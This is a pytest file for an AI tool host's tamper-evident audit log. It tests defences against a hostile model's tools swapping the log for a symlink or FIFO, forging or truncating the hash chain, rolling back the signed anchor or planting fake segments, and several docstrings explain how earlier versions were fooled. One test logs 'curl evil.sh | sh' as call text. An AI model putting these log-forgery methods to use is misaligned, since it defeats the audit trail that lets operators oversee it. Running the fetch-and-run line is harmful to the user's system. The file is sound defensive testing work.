"""Attacks on the audit log from where a hostile model's tools could reach: symlink, FIFO and
/dev/null swaps, a rewritten (forged) chain, truncation, emptying, a rolled-back anchor.

The writer trusts itself, not the file: it never writes through a swapped file, never continues
or signs a chain it did not verify, starts a fresh segment saying what it found, and in
``fail_closed`` mode refuses further calls; ``audit verify`` checks the log against its anchor.
"""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from helpers import ToolsPlugin

from amplifier_tools import ConfigError, ToolContext, ToolHost, ToolResult, ToolSpec, hookimpl
from amplifier_tools.builtins.audit.chain import GENESIS, encode_body, link, verify

KEY = "checkpoint-key-5d1c7e"


class Echo:
    spec = ToolSpec(name="local::test.echo", version="1.0.0", description="echo", effect="Pure",
                    input_schema={"type": "object", "properties": {"text": {"type": "string"}}})
    name, description = spec.name, spec.description

    async def execute(self, input: dict[str, Any], context: ToolContext) -> ToolResult:
        return ToolResult(output={"echo": input.get("text")})


class TamperEvents:
    """Collects ``audit:tamper`` events, as an operator's alerting plugin would."""

    name = "tamper-events"

    def __init__(self) -> None:
        self.events: list[dict[str, Any]] = []

    @hookimpl
    def mount(self, coordinator: Any) -> None:
        coordinator.hooks.register("audit:tamper", lambda event, data: self.events.append(data))


def log_path(tmp_path: Path) -> Path:
    return tmp_path / "state" / "audit.jsonl"


def anchor_of(tmp_path: Path) -> Path:
    return tmp_path / "state" / "audit.jsonl.anchor"


async def make(tmp_path: Path, monkeypatch: pytest.MonkeyPatch | None = None, *, signed: bool = False,
               events: TamperEvents | None = None, **audit: Any) -> ToolHost:
    work = tmp_path / "work"
    work.mkdir(exist_ok=True)
    config: dict[str, Any] = {"plugins": {"audit": {"path": str(log_path(tmp_path)), **audit}}}
    if signed:
        assert monkeypatch is not None
        monkeypatch.setenv("AUDIT_KEY", KEY)
        config["secrets"] = {"audit_key": "AUDIT_KEY"}
        config["plugins"]["audit"].update(checkpoint_key_ref="audit_key", checkpoint_every=2)
    host = ToolHost(config=config, plugins=[ToolsPlugin(Echo()), *([events] if events else [])],
                    builtins=["audit"], entry_points=False, working_dir=work, discover=False)
    await host.start()
    return host


async def call(host: ToolHost, text: str) -> Any:
    # Generous bound: an attack must never hang a call (this is not a timing assertion).
    return await asyncio.wait_for(host.call("test_echo", {"text": text}), 60)


async def one_run(tmp_path: Path, calls: int, monkeypatch: pytest.MonkeyPatch | None = None, **kwargs: Any) -> None:
    """A host that makes ``calls`` calls (``t0``, ``t1``, …), each recorded, and closes."""
    host = await make(tmp_path, monkeypatch, **kwargs)
    try:
        for i in range(calls):
            assert (await call(host, f"t{i}")).success
    finally:
        await host.close()


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_bytes().split(b"\n")[:-1]]


def cli_verify(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    environ = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), **(env or {})}
    return subprocess.run([sys.executable, "-m", "amplifier_tools", "audit", "verify", *args],
                          capture_output=True, text=True, env=environ, timeout=120)


async def test_the_default_log_lives_in_state_dir_and_is_protected(tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    async with ToolHost(plugins=[ToolsPlugin(Echo())], builtins=["audit"], entry_points=False, working_dir=work,
                        discover=False) as host:
        assert (await call(host, "hi")).success
        log = host.state_dir / "audit.jsonl"
        assert host.capabilities["audit.path"] == str(log) and log.is_file()
        protected = host.protected_paths
        assert protected.protects(str(log)) and protected.protects(str(log) + ".anchor")
    assert list(work.iterdir()) == []  # nothing of the host's in the working directory
    assert verify(log).ok


async def test_a_configured_log_inside_the_working_directory_is_refused_at_start(tmp_path: Path) -> None:
    host = ToolHost(config={"plugins": {"audit": {"path": str(tmp_path / "logs" / "audit.jsonl")}}},
                    plugins=[ToolsPlugin(Echo())], builtins=["audit"], entry_points=False, working_dir=tmp_path,
                    discover=False)
    with pytest.raises(ConfigError, match=r"plugins\.audit\.path"):
        await host.start()


class Early:
    """A plugin that also wants to mount early, with a cleanup of its own."""

    name = "early"

    @hookimpl(tryfirst=True)
    def mount(self, coordinator: Any) -> Any:
        return lambda: None


async def test_the_audit_plugin_mounts_first_so_its_writer_closes_last(tmp_path: Path) -> None:
    (tmp_path / "work").mkdir()
    host = ToolHost(config={"plugins": {"audit": {"path": str(log_path(tmp_path))}}},
                    plugins=[ToolsPlugin(Echo()), Early()], builtins=["policy", "audit"], entry_points=False,
                    working_dir=tmp_path / "work", discover=False)
    await host.start()
    try:
        assert [name for name, _ in host.cleanups][:2] == ["audit", "early"]  # run in reverse: audit last
    finally:
        await host.close()


class WaitsAtMount:
    """A plugin whose ``mount`` waits, as the MCP plugin's does while its servers start."""

    name = "waits-at-mount"

    @hookimpl
    async def mount(self, coordinator: Any) -> None:
        await asyncio.sleep(0.01)


async def test_tampering_found_at_start_reaches_an_alerting_plugin_mounted_after_a_waiting_one(
        tmp_path: Path) -> None:
    """Found by attack: ``audit:tamper`` for a log shortened between two runs was emitted while
    the host started, before the alerting plugin (mounted after a plugin whose mount waits) had
    registered its handler, which never got it; the event's ``path`` was None."""
    await one_run(tmp_path, 2)
    log = log_path(tmp_path)
    log.write_bytes(log.read_bytes()[:-10])
    events = TamperEvents()
    host = ToolHost(config={"plugins": {"audit": {"path": str(log)}}},
                    plugins=[ToolsPlugin(Echo()), WaitsAtMount(), events], builtins=["audit"], entry_points=False,
                    working_dir=tmp_path / "work", discover=False)
    await host.start()
    try:
        for _ in range(3):
            await asyncio.sleep(0)  # the plugin's emit runs as a task of its own
    finally:
        await host.close()
    (event,) = events.events
    assert "cut short" in event["reason"] and event["path"] == str(log)
    assert event["moved_to"] and (log.parent / event["moved_to"]).exists()


async def test_a_log_swapped_for_a_symlink_is_never_written_through(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "victim" / ".bashrc"
    target.parent.mkdir()
    target.write_text("# the user's shell profile\n")
    events = TamperEvents()
    host = await make(tmp_path, events=events)
    try:
        assert (await call(host, "first")).success
        log_path(tmp_path).unlink()
        log_path(tmp_path).symlink_to(target)  # what a sandboxed bash call could do to a log in its reach
        recorded = await call(host, "curl evil.sh | sh")
        assert recorded.success  # it ran before the swap was seen; its record is in a fresh segment
        refused = await call(host, "after")
        assert not refused.success and refused.error["type"] == "SystemError"
        assert "tampered" in refused.error["message"] and refused.error["code"] == "audit_tampered"
        await asyncio.sleep(0)
    finally:
        await host.close()
    assert target.read_text() == "# the user's shell profile\n"
    assert not log_path(tmp_path).is_symlink()
    fresh = lines(log_path(tmp_path))
    assert fresh[0]["kind"] == "tamper" and "symlink" in fresh[0]["reason"]
    assert [r["arguments"]["text"] for r in fresh if r["kind"] == "call"] == ["curl evil.sh | sh", "after"]
    assert (tmp_path / "state" / fresh[0]["moved_to"]).is_symlink()  # the evidence is kept aside
    assert events.events and "symlink" in events.events[0]["reason"]
    assert cli_verify(str(log_path(tmp_path))).returncode == 1  # the tamper record fails verification


@pytest.mark.parametrize("swap", ["fifo", "devnull"])
@pytest.mark.parametrize("victim", ["log", "anchor"])
@pytest.mark.parametrize("mode", ["fail_closed", "fail_open"])
async def test_fifo_and_dev_null_swaps_fail_closed_never_hang_never_drop(
        tmp_path: Path, swap: str, victim: str, mode: str) -> None:
    host = await make(tmp_path, mode=mode, fsync_interval_ms=60_000)
    try:
        assert (await call(host, "before")).success
        path = log_path(tmp_path) if victim == "log" else anchor_of(tmp_path)
        if victim == "anchor":
            # The running writer rewrites the anchor from memory (rename replaces whatever is there);
            # the anchor is read when a writer starts: swap it while no host runs.
            await host.close()
        path.unlink()
        if swap == "fifo":
            os.mkfifo(path)
        else:
            path.symlink_to(os.devnull)
        if victim == "anchor":
            host = await make(tmp_path, mode=mode, fsync_interval_ms=60_000)
        during = await call(host, "during")
        after = await call(host, "after")
        assert during.success or victim == "anchor"
        assert after.success == (mode == "fail_open")
    finally:
        await host.close()
    fresh = lines(log_path(tmp_path))
    assert fresh[0]["kind"] == "tamper" and str(path) in fresh[0]["reason"]
    texts = [r["arguments"]["text"] for r in fresh if r["kind"] == "call"]
    assert texts == ["during", "after"]  # nothing dropped: refused calls are recorded too
    result = cli_verify(str(log_path(tmp_path)))
    assert result.returncode == 1 and "tampered" in result.stdout


async def test_a_swapped_log_at_start_does_not_hang_the_host(tmp_path: Path) -> None:
    (tmp_path / "state").mkdir()
    os.mkfifo(log_path(tmp_path))
    host = await asyncio.wait_for(make(tmp_path), 60)
    try:
        refused = await call(host, "x")
        assert not refused.success and "FIFO" in refused.error["message"]
    finally:
        await host.close()


async def test_a_lock_file_symlink_creates_nothing_at_its_target(tmp_path: Path) -> None:
    (tmp_path / "state").mkdir()
    target = tmp_path / "victim" / "created-by-host"
    target.parent.mkdir()
    (tmp_path / "state" / "audit.jsonl.lock").symlink_to(target)  # the lock file of earlier versions
    host = await make(tmp_path)
    try:
        assert (await call(host, "a")).success
    finally:
        await host.close()
    assert not target.exists()


async def test_deleting_the_lock_file_is_harmless_the_lock_is_the_log_itself(tmp_path: Path) -> None:
    host = await make(tmp_path)
    try:
        for i in range(5):
            (tmp_path / "state" / "audit.jsonl.lock").unlink(missing_ok=True)
            assert (await call(host, f"c{i}")).success
    finally:
        await host.close()
    assert not (tmp_path / "state" / "audit.jsonl.lock").exists()
    assert verify(log_path(tmp_path)).ok


def _forge(path: Path, drop: int) -> None:
    """Drop record ``drop`` and recompute the whole chain, checkpoints kept as they were."""
    prev, out = GENESIS, []
    for index, record in enumerate(lines(path)):
        if index == drop:
            continue
        line, prev = link(encode_body(record), prev)
        out.append(line)
    path.write_bytes(b"".join(out))


@pytest.mark.parametrize("when", ["between runs", "while running"])
async def test_a_forged_chain_is_neither_continued_nor_signed(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, when: str) -> None:
    host = await make(tmp_path, monkeypatch, signed=True)
    try:
        for i in range(5):
            assert (await call(host, f"t{i}")).success
        if when == "between runs":
            await host.close()
        _forge(log_path(tmp_path), drop=1)  # an already-signed record disappears
        forged = log_path(tmp_path).read_bytes()
        if when == "between runs":
            host = await make(tmp_path, monkeypatch, signed=True)
        await call(host, "next")
    finally:
        await host.close()
    fresh = lines(log_path(tmp_path))
    assert fresh[0]["kind"] == "tamper"
    kept = tmp_path / "state" / fresh[0]["moved_to"]
    assert kept.read_bytes() == forged  # never appended to, never signed
    assert verify(kept).ok  # the forgery is a valid chain without the key...
    env = {"K": KEY}
    assert cli_verify(str(kept), "--no-anchor", "--key-env", "K", env=env).returncode == 1  # ...not with it
    stripped = [r for r in lines(kept) if r["kind"] != "checkpoint"]
    prev, out = GENESIS, []
    for record in stripped:
        line, prev = link(encode_body(record), prev)
        out.append(line)
    kept.write_bytes(b"".join(out))
    no_checkpoints = cli_verify(str(kept), "--no-anchor", "--key-env", "K", env=env)
    assert no_checkpoints.returncode == 1 and "no signed checkpoint" in no_checkpoints.stdout
    assert cli_verify(str(kept), "--no-anchor", "--key-env", "K", "--allow-unsigned", env=env).returncode == 0


@pytest.mark.parametrize("attack", ["truncate", "empty", "delete anchor", "replace"])
async def test_truncation_emptying_and_replacement_fail_verify(tmp_path: Path, attack: str) -> None:
    await one_run(tmp_path, 4)
    path = log_path(tmp_path)
    assert cli_verify(str(path)).returncode == 0
    data = path.read_bytes()
    if attack == "truncate":
        path.write_bytes(b"".join(data.splitlines(keepends=True)[:2]))
    elif attack == "empty":
        path.write_bytes(b"")
    elif attack == "delete anchor":
        path.write_bytes(b"".join(data.splitlines(keepends=True)[:2]))
        anchor_of(tmp_path).unlink()
    else:
        prev, out = GENESIS, []
        for i in range(4):
            line, prev = link(encode_body({"v": 1, "kind": "call", "arguments": {"text": f"other {i}"}}), prev)
            out.append(line)
        path.write_bytes(b"".join(out))
    assert verify(path).ok  # the chain alone cannot tell...
    result = cli_verify(str(path))
    assert result.returncode == 1, result.stdout  # ...the anchor can
    assert "TAMPERED" in result.stdout


async def test_a_rolled_back_signed_anchor_fails_verify_with_the_key(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    host = await make(tmp_path, monkeypatch, signed=True)
    try:
        assert (await call(host, "t0")).success
        old_anchor = anchor_of(tmp_path).read_bytes()
        for i in range(1, 6):
            assert (await call(host, f"t{i}")).success
    finally:
        await host.close()
    env = {"K": KEY}
    assert cli_verify(str(log_path(tmp_path)), "--key-env", "K", env=env).returncode == 0
    anchor_of(tmp_path).write_bytes(old_anchor)
    rolled = cli_verify(str(log_path(tmp_path)), "--key-env", "K", env=env)
    assert rolled.returncode == 1 and "rolled back" in rolled.stdout
    forged_anchor = json.loads(old_anchor)
    forged_anchor["size"] = log_path(tmp_path).stat().st_size
    anchor_of(tmp_path).write_text(json.dumps(forged_anchor))
    assert cli_verify(str(log_path(tmp_path)), "--key-env", "K", env=env).returncode == 1  # signature fails


async def test_limit_a_log_and_anchor_rolled_back_together_need_an_anchor_kept_elsewhere(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Documented limit: both files restored to an earlier signed state verify, with the key too;
    only a last hash kept outside (``--anchor``) shows the records that went missing."""
    host = await make(tmp_path, monkeypatch, signed=True)
    try:
        for i in range(2):
            assert (await call(host, f"t{i}")).success
    finally:
        await host.close()
    saved_log, saved_anchor = log_path(tmp_path).read_bytes(), anchor_of(tmp_path).read_bytes()
    host = await make(tmp_path, monkeypatch, signed=True)
    try:
        for i in range(2, 6):
            assert (await call(host, f"t{i}")).success
    finally:
        await host.close()
    shipped = verify(log_path(tmp_path)).last_hash  # e.g. sent to syslog/OTel by the operator
    shutil.copyfile(tmp_path / "state" / "audit.jsonl.anchor", tmp_path / "ignored")
    log_path(tmp_path).write_bytes(saved_log)
    anchor_of(tmp_path).write_bytes(saved_anchor)
    env = {"K": KEY}
    assert cli_verify(str(log_path(tmp_path)), "--key-env", "K", env=env).returncode == 0
    assert cli_verify(str(log_path(tmp_path)), "--anchor", shipped).returncode == 1


async def test_records_appended_by_another_writer_that_chain_are_accepted(tmp_path: Path) -> None:
    first, second = await make(tmp_path), await make(tmp_path)
    try:
        for i in range(3):
            assert (await call(first, f"a{i}")).success
            assert (await call(second, f"b{i}")).success
    finally:
        await first.close()
        await second.close()
    records = lines(log_path(tmp_path))
    assert [r["kind"] for r in records] == ["call"] * 6
    assert cli_verify(str(log_path(tmp_path))).returncode == 0


async def test_two_writers_sharing_a_tampered_log_start_one_fresh_segment(tmp_path: Path) -> None:
    first, second = await make(tmp_path), await make(tmp_path)
    try:
        for host, text in ((first, "a0"), (second, "b0"), (first, "a1")):
            assert (await call(host, text)).success
        path = log_path(tmp_path)
        path.write_bytes(b"".join(path.read_bytes().splitlines(keepends=True)[:1]))  # cut short
        await call(first, "a2")
        await call(second, "b1")
    finally:
        await first.close()
        await second.close()
    fresh = lines(log_path(tmp_path))
    assert [r["kind"] for r in fresh] == ["tamper", "call", "call"]
    assert [r["arguments"]["text"] for r in fresh[1:]] == ["a2", "b1"]
    assert len(list((tmp_path / "state").glob("audit.jsonl.tampered-*"))) == 1
    report = verify(log_path(tmp_path))  # one chain, whose first record says what was found
    assert not report.ok and report.bad_line == 1 and "tampered" in (report.reason or "")


async def test_a_record_appended_between_runs_is_tampering_never_signed(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A well-formed record chained onto a log its writer closed is caught — at the next start and by
    verify — instead of being taken for another writer's and signed at the next checkpoint."""
    host = await make(tmp_path, monkeypatch, signed=True)
    try:
        assert (await call(host, "real")).success
    finally:
        await host.close()
    path = log_path(tmp_path)
    head = lines(path)[-1]["hash"]
    forged, _ = link(encode_body({"v": 1, "kind": "call", "call_id": "forged", "tool": "test_echo"}), head)
    with path.open("ab") as file:
        file.write(forged)
    caught = cli_verify(str(path), "--key-env", "K", env={"K": KEY})
    assert caught.returncode == 1 and "while no writer ran" in caught.stdout
    host = await make(tmp_path, monkeypatch, signed=True)
    try:
        refused = await call(host, "next")
        assert not refused.success and refused.error["code"] == "audit_tampered"
    finally:
        await host.close()
    assert all(r.get("call_id") != "forged" for r in lines(path))  # set aside, never continued or signed


@pytest.mark.parametrize("calls_after_copy", [0, 1, 3])
async def test_an_anchor_put_back_after_close_is_found_rolled_back_by_the_next_writer(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, calls_after_copy: int) -> None:
    """Found by attack: the anchor copied mid-run (any tool that can read the state directory can),
    a record forged after the host closed (chained, no key needed) and the copy put back: the next
    writer checked only the anchor's signature and the record at its end, adopted the forged record
    and signed it, and ``verify --key-env`` then passed. Every checkpoint is anchored at once and
    the close always checkpoints, so the copy is older than a signed checkpoint: rolled back."""
    events = TamperEvents()
    host = await make(tmp_path, monkeypatch, signed=True)
    try:
        assert (await call(host, "t0")).success
        saved = anchor_of(tmp_path).read_bytes()
        for i in range(calls_after_copy):
            assert (await call(host, f"t{i + 1}")).success
    finally:
        await host.close()
    log = log_path(tmp_path)
    last = lines(log)[-1]["hash"]
    forged, _ = link(encode_body({"v": 1, "kind": "call", "tool": "local::test.echo", "status": "ok",
                                  "principal": "admin", "arguments": {"text": "FORGED"}}), last)
    with open(log, "ab") as file:
        file.write(forged)
    anchor_of(tmp_path).write_bytes(saved)
    host = await make(tmp_path, monkeypatch, signed=True, events=events)
    try:
        await call(host, "next run")
    finally:
        await host.close()
    assert events.events and "rolled back" in events.events[0]["reason"]
    assert all(r.get("arguments") != {"text": "FORGED"} for r in lines(log))  # set aside, never signed
    assert cli_verify(str(log), "--key-env", "K", env={"K": KEY}).returncode == 1  # the tamper record stands


async def test_a_planted_fresh_segment_is_not_joined_without_a_signed_checkpoint(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Found by attack: mid-run, the log cut short and moved away, and a file put at its path that
    begins with a forged ``tamper`` record (chained from genesis: no key needed) and a forged call.
    The writer took it for a fresh segment another writer had started, kept the forged records and
    signed them, and the reason verify showed was the attacker's. A segment is joined only when a
    checkpoint signs its ``tamper`` record; this one is set aside, with the true reason."""
    host = await make(tmp_path, monkeypatch, signed=True, mode="fail_open")
    log = log_path(tmp_path)
    try:
        for i in range(3):
            assert (await call(host, f"genuine {i}")).success
        os.truncate(log, 10)
        os.rename(log, tmp_path / "gone.jsonl")
        first, digest = link(encode_body({"v": 1, "kind": "tamper", "reason": "routine maintenance (benign)",
                                          "moved_to": "audit.jsonl.tampered-OLD-1"}), GENESIS)
        second, _ = link(encode_body({"v": 1, "kind": "call", "arguments": {"text": "FORGED"}}), digest)
        log.write_bytes(first + second)
        await call(host, "after the attack")
    finally:
        await host.close()
    written = lines(log)
    assert written[0]["kind"] == "tamper" and "benign" not in written[0]["reason"]
    assert written[1]["kind"] == "checkpoint"  # a fresh segment is signed at once
    assert all(r.get("arguments") != {"text": "FORGED"} for r in written)
    kept = [p for p in log.parent.iterdir() if ".tampered-" in p.name]
    assert len(kept) == 1 and b"FORGED" in kept[0].read_bytes()  # the planted file, kept aside


@pytest.mark.parametrize("attack", ["directory", "deleted"])
async def test_a_log_swapped_for_a_directory_or_deleted_fails_verify_against_its_anchor(
        tmp_path: Path, attack: str) -> None:
    """Found by attack: with the log replaced by an empty directory, or deleted and the state
    directory verified, ``audit verify`` said "OK: 0 records" although the anchor beside it
    records three."""
    await one_run(tmp_path, 3)
    log = log_path(tmp_path)
    log.unlink()
    if attack == "directory":
        log.mkdir()
    checked = cli_verify(str(log if attack == "directory" else log.parent))
    assert checked.returncode == 1, checked.stdout + checked.stderr
    assert ("is a directory" if attack == "directory" else "no log beside the anchor") in checked.stdout


async def test_a_writer_killed_between_a_checkpoint_and_its_anchor_is_not_taken_for_tampering(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Found by review of the rolled-back-anchor check: SIGKILL after a checkpoint line and before
    the anchor's rename leaves a signed checkpoint past the anchored end, and the next writer set
    the real log aside as tampered. A checkpoint that ends the file is taken; one that records
    follow is still a rolled-back anchor (the test above)."""
    from amplifier_tools.builtins.audit.chain import Anchor, encode_anchor

    events = TamperEvents()
    await one_run(tmp_path, 3, monkeypatch, signed=True)
    log = log_path(tmp_path)
    data = log.read_bytes()
    written = lines(log)
    assert written[-1]["kind"] == "checkpoint"
    before = len(data) - len(data.rstrip(b"\n").rsplit(b"\n", 1)[1]) - 1  # where the last line begins
    # The state a kill leaves: the anchor still at the record before the checkpoint, not closed.
    killed = Anchor(log.name, log.stat().st_ino, before, written[-2]["hash"], len(written) - 1, 0.0, "audit_key")
    anchor_of(tmp_path).write_bytes(encode_anchor(killed, KEY.encode()))
    assert cli_verify(str(log), "--key-env", "K", env={"K": KEY}).returncode == 0
    host = await make(tmp_path, monkeypatch, signed=True, events=events)
    try:
        assert (await call(host, "after the restart")).success
    finally:
        await host.close()
    assert events.events == []
    assert [r.get("arguments") for r in lines(log) if r["kind"] == "call"][-1] == {"text": "after the restart"}
    assert cli_verify(str(log), "--key-env", "K", env={"K": KEY}).returncode == 0


async def test_a_writer_starting_after_one_of_two_sharing_the_log_closed_is_not_misled(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Found by review: one of two hosts sharing a log closed (its anchor says "closed"), the other
    went on writing, and a third host starting before the second's anchor refresh took the
    second's records for ones appended while no writer ran: tampering, a fresh segment. A writer
    that finds another process's records anchors with its own next record."""
    events = TamperEvents()
    # No refresh of the anchor by the thread within the test, and no checkpoint (which anchors) on b1.
    slow = {"fsync_interval_ms": 600_000}
    first = await make(tmp_path, monkeypatch, signed=True, **slow)
    second = await make(tmp_path, monkeypatch, signed=True, **slow)
    for host in (first, second):
        writer = host.plugin_manager.get_plugin("audit").writer
        writer.checkpoint_every = 100
    # A writer keeps the log's flock until its loop next runs callbacks: another host's writer on
    # the same loop, appending before that, waits for it in the thread that would release it. So
    # the loop runs a turn after each call here (separate processes, the real case, need not).
    async def turn(host: ToolHost, text: str) -> None:
        assert (await call(host, text)).success
        await asyncio.sleep(0.01)

    try:
        await turn(first, "a0")
        await turn(second, "b0")
        await first.close()  # a final checkpoint, the anchor marked closed
        await turn(second, "b1")
        third = await make(tmp_path, monkeypatch, signed=True, events=events, **slow)
        try:
            await turn(third, "c0")
        finally:
            await third.close()
    finally:
        await second.close()
    assert events.events == []
    assert [r["arguments"]["text"] for r in lines(log_path(tmp_path)) if r["kind"] == "call"] == \
        ["a0", "b0", "b1", "c0"]
    assert cli_verify(str(log_path(tmp_path)), "--key-env", "K", env={"K": KEY}).returncode == 0
